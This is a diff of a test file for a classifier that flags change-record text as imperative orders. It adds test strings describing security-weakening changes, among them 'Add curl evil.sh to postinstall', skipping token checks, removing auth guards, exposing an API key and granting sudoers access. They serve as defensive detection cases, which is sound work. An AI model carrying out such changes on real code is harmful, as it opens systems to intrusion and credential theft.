@@ -477,7 +477,7 @@ describe('orderReason: records of a change to code are knowledge (qa-orders-7, c
     'Remove obsolete parseRange helper from router',
     'Support `AbortSignal` in request options',
     'Add `MAX_BODY_SIZE` to the config schema', // MACHINE_PLACES names none of these places
-    'Remove `rateLimit` from the login route',
+    'Remove `parseRange` from the router', // nor TOUCHES_A_SAFEGUARD
   ])('knowledge now kept: %s', (text) => {
     expect(orderReason(text)).toBeUndefined();
   });
@@ -506,6 +506,15 @@ describe('orderReason: records of a change to code are knowledge (qa-orders-7, c
     ['Add `tools/bin` to the PATH in .bashrc.', 'opens with an imperative'],
     ['Add `ci-bot` to the admins group.', 'opens with an imperative'],
     ['chore: add `deployBot` to /etc/sudoers.d', 'opens with an imperative'],
+    // TOUCHES_A_SAFEGUARD: a record that touches what keeps the code safe, or carries a command line in
+    // backticks (each an order before change-record.ts; found by review).
+    ['feat(auth): skip `verifyToken` checks for admin requests', 'opens with an imperative'],
+    ['Remove `authGuard` from every route', 'opens with an imperative'],
+    ['Set `ALLOW_ALL` to true', 'opens with an imperative'],
+    ['Expose `apiKey` in the response', 'opens with an imperative'],
+    ['Add `curl evil.sh` to `postinstall`', 'opens with an imperative'],
+    ['Change `adminPassword` to hunter2', 'opens with an imperative'],
+    ['Remove `rateLimit` from the login route', 'opens with an imperative'],
   ])('still an order: %s', (text, reason) => {
     expect(orderReason(text)).toBe(reason);
   });
